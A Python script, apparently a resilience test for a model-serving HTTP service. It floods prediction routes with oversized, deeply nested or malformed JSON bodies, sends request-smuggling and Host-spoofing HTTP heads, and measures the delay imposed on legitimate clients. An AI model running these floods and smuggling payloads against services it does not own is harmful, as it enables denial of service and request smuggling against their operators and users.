"""What a hostile client sends to a model service.

``attack.py <http://host:port> <model> <row as JSON>`` tries all of it on a service that is up, and says what was
answered and how long others waited meanwhile.
"""

import contextlib
import itertools
import json
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

MEGABYTES = 8
"""As much as a body may have by default."""

SIZE = MEGABYTES * 1024 * 1024 - 1000
AT_ONCE = 16

ROUTES = ("/predict", "/predict/batch", "/feedback", "/invocations", "/v2/models/{model}/infer")


def filled(before: bytes, part: bytes, after: bytes, between: bytes = b",") -> bytes:
    """As many parts as fit."""
    return before + between.join([part] * ((SIZE - len(before) - len(after)) // (len(part) + len(between)))) + after


def numbered(before: bytes, part: bytes, after: bytes) -> bytes:
    """Parts that differ by their number, for ``%d``."""
    count = (SIZE - len(before) - len(after)) // (len(part) + 8)
    return before + b",".join([part % number for number in range(count)]) + after


def bodies(known: str) -> dict[str, bytes]:
    """JSON (or what its name says) of the largest size that is taken, of kinds that cost more to read than to send.

    Args:
        known: name of one of the model's fields.
    """
    field = known.encode()
    return {
        "lines of CSV": filled(field + b"\n", b"x", b"\n", b"\n"),
        "a field again and again": filled(b"{", b'"%b":0' % field, b"}"),
        "a field again and again, in a row": filled(b'{"rows":[{', b'"%b":0' % field, b"}]}"),
        "rows again and again": filled(b"{", b'"rows":[{}]', b"}"),
        "a field that is a long list": filled(b'{"%b":[' % field, b"0", b"]}"),
        "a field that is a long text": b'{"%b":"' % field + b"x" * (SIZE - 100) + b'"}',
        "rows of a list each": filled(b'{"rows":[', b'{"%b":[]}' % field, b"]}"),
        "unknown keys": numbered(b"{", b'"k%d":0', b"}"),
        "one key again and again": filled(b"{", b'"trip":0', b"}"),
        "numbers": filled(b"[", b"0", b"]"),
        "empty rows": filled(b"[", b"{}", b"]"),
        "empty rows of a batch": filled(b'{"rows":[', b"{}", b"]}"),
        "rows of one wrong key": numbered(b'{"rows":[', b'{"k%d":1}', b"]}"),
        "nulls": filled(b"[", b"null", b"]"),
        "lists without end": b"[" * SIZE,
        "deep lists": b"[" * (SIZE // 2) + b"]" * (SIZE // 2),
        "deep objects": b'{"a":' * (SIZE // 6) + b"0" + b"}" * (SIZE // 6),
        "one long text": b'{"trip":"' + b"x" * (SIZE - 20) + b'"}',
        "one long text of escapes": filled(b'{"trip":"', rb"\u00e9", b'"}', b""),
        "half of a surrogate pair": filled(b'{"trip":"', rb"\ud800", b'"}', b""),
        "one long number": b'{"trip":' + b"9" * (SIZE - 20) + b"}",
        "large exponents": filled(b"[", b"1e999", b"]"),
        "outcomes of nothing": numbered(b"[", b'{"prediction_id":"%d","outcome":1}', b"]"),
        "outcomes that are lists": filled(b'{"outcomes":[', b"[]", b"]}"),
        "records": numbered(b'{"dataframe_records":[', b'{"k%d":1}', b"]}"),
        "columns": numbered(b'{"dataframe_split":{"columns":[', b'"k%d"', b'],"data":[]}}'),
        "rows without columns": filled(b'{"dataframe_split":{"columns":[],"data":[', b"[]", b"]}}"),
        "tensors": numbered(b'{"inputs":[', b'{"name":"k%d","shape":[0],"datatype":"FP64","data":[]}', b"]}"),
        "one tensor's shape": filled(b'{"inputs":[{"name":"k","shape":[', b"1", b'],"datatype":"FP64","data":[1]}]}'),
        "one tensor of lists": filled(b'{"inputs":[{"name":"k","shape":[1],"datatype":"FP64","data":[', b"[]", b"]}]}"),
    }


def media_type(kind: str) -> str:
    return "text/csv" if kind.endswith("CSV") else "application/json"


def heads() -> dict[str, bytes]:
    """Requests that two programs may read differently, or that cost more than they should. ``%b``: the host."""
    row = b"{}"
    post = b"POST /predict HTTP/1.1\r\nHost: %b\r\nContent-Type: application/json\r\n"
    chunked = b"Transfer-Encoding: chunked\r\n\r\n"
    hidden = b"GET /hidden HTTP/1.1\r\nHost: %b\r\n\r\n"
    return {
        "two lengths": post + b"Content-Length: 2\r\nContent-Length: 40\r\n\r\n" + row + hidden,
        "a list of lengths": post + b"Content-Length: 2, 2\r\n\r\n" + row + hidden,
        "a length with a sign": post + b"Content-Length: +2\r\n\r\n" + row + hidden,
        "a length in hexadecimal": post + b"Content-Length: 0x2\r\n\r\n" + row + hidden,
        "a length that is negative": post + b"Content-Length: -1\r\n\r\n" + row + hidden,
        "a length and chunks": post + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
        "chunks by another name": post + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + hidden,
        "chunks, and something else": post + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + hidden,
        "chunks said twice": post
        + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"
        + hidden,
        "a blank before the colon": post + b"Content-Length : 2\r\n\r\n" + row + hidden,
        "a folded line": post + b"X: a\r\n b\r\nContent-Length: 2\r\n\r\n" + row + hidden,
        "lines that end in LF": post.replace(b"\r\n", b"\n") + b"Content-Length: 2\n\n" + row + hidden,
        "a NUL in a header": post + b"X: a\0b\r\nContent-Length: 2\r\n\r\n" + row + hidden,
        "a chunk's size that overflows": post
        + b"Transfer-Encoding: chunked\r\n\r\n1"
        + b"0" * 16
        + b"\r\n"
        + row
        + hidden,
        "a chunk's size with a sign": post + chunked + b"+2\r\n{}\r\n0\r\n\r\n" + hidden,
        "a chunk without its end": post + chunked + b"2\r\n{}GET /hidden HTTP/1.1\r\n\r\n",
        "another host in the target": b"GET http://evil.example/hidden HTTP/1.1\r\nHost: %b\r\n\r\n",
        "no host": b"GET /hidden HTTP/1.1\r\n\r\n",
        "two hosts": b"GET /hidden HTTP/1.1\r\nHost: %b\r\nHost: evil.example\r\n\r\n",
        "a host of another name": b"GET /hidden HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        "a host that begins well": b"GET /hidden HTTP/1.1\r\nHost: localhost.evil.example\r\n\r\n",
        "a host with a login": b"GET /hidden HTTP/1.1\r\nHost: evil.example@%b\r\n\r\n",
        "a page of another origin": b"GET /hidden HTTP/1.1\r\nHost: %b\r\nOrigin: http://evil.example\r\n\r\n",
        "a tunnel": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: %b\r\n\r\n",
        "an HTTP of the future": b"GET /hidden HTTP/9.9\r\nHost: %b\r\n\r\n",
        "a preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "a greeting of TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 500,
        "a head of a megabyte": b"GET /hidden HTTP/1.1\r\nHost: %b\r\nX: " + b"x" * 1_000_000 + b"\r\n\r\n",
        "ten thousand headers": b"GET /hidden HTTP/1.1\r\nHost: %b\r\n" + b"X: x\r\n" * 10_000 + b"\r\n",
        "a target of a megabyte": b"GET /" + b"x" * 1_000_000 + b" HTTP/1.1\r\nHost: %b\r\n\r\n",
    }


@dataclass
class Service:
    """A service under attack, as its clients see it."""

    address: tuple[str, int]
    model: str
    row: Mapping[str, object]
    """One that it predicts."""

    @property
    def host(self) -> bytes:
        return b"%b:%d" % (self.address[0].encode(), self.address[1])

    def say(self, sent: bytes, seconds: float = 60) -> bytes:
        """All that is answered until the service closes, or says no more for two seconds."""
        heard = bytearray()
        with socket.create_connection(self.address, timeout=seconds) as connection:
            # it may have had enough before all is said; what it said is still to be read
            with contextlib.suppress(OSError):
                connection.sendall(sent)
            with contextlib.suppress(OSError):
                while part := connection.recv(65536):
                    heard += part
                    connection.settimeout(2)
        return bytes(heard)

    def post(self, route: str, body: bytes, media_type: str = "application/json") -> int:
        """The status; 0 for a connection that was closed without one."""
        head = f"POST {route} HTTP/1.1\r\nHost: {self.host.decode()}\r\nConnection: close\r\n"
        head += f"Content-Type: {media_type}\r\nContent-Length: {len(body)}\r\n\r\n"
        answer = self.say(head.encode() + body, 120)
        return int(answer[9:12]) if answer.startswith(b"HTTP/1.1 ") else 0

    def predicts(self) -> bool:
        """Whether somebody else gets what they want meanwhile."""
        return self.post("/predict", json.dumps(self.row).encode()) == 200


@dataclass
class Others:
    """What an attack meant for those who predict meanwhile."""

    longest: float = 0
    """Seconds that one of them waited."""
    refused: int = 0


def with_others(service: Service, attack: Callable[[], None]) -> Others:
    """Attacks while somebody else predicts."""
    over, others = threading.Event(), Others()

    def predict() -> None:
        while not over.wait(0.05):
            begun = time.monotonic()
            others.refused += not service.predicts()
            others.longest = max(others.longest, time.monotonic() - begun)

    other = threading.Thread(target=predict)
    other.start()
    try:
        attack()
    finally:
        over.set()
        other.join()
    return others


def everything(known: str) -> Iterator[tuple[str, str]]:
    """Each kind of body with each route."""
    yield from itertools.product(bodies(known), ROUTES)


def flood(service: Service, kind: str, route: str) -> tuple[set[int], Others]:
    """Sends a body to a route, as many at once as are taken: the statuses, and what it meant for others."""
    body, path = bodies(next(iter(service.row)))[kind], route.format(model=service.model)
    statuses: set[int] = set()

    def send() -> None:
        with ThreadPoolExecutor(AT_ONCE) as pool:
            statuses.update(pool.map(lambda _: service.post(path, body, media_type(kind)), range(AT_ONCE)))

    return statuses, with_others(service, send)


def misread(service: Service, kind: str) -> list[int]:
    """Sends an odd head: the statuses of all answers. That of ``/hidden`` would be 404."""
    answer = service.say(heads()[kind].replace(b"%b", service.host), 10)
    return [int(part[:3]) for part in answer.split(b"HTTP/1.1 ")[1:]]


def main() -> None:
    host, _, port = sys.argv[1].removeprefix("http://").partition(":")
    service = Service((host, int(port)), sys.argv[2], json.loads(sys.argv[3]))
    for kind in heads():
        sys.stdout.write(f"{kind:<34} {misread(service, kind)}\n")
    for kind, route in everything(next(iter(service.row))):
        statuses, others = flood(service, kind, route)
        told = f"others waited {others.longest:.2f} s" + (f", {others.refused} REFUSED" if others.refused else "")
        sys.stdout.write(f"{kind:<34} {route:<26} {sorted(statuses)}  {told}\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main()
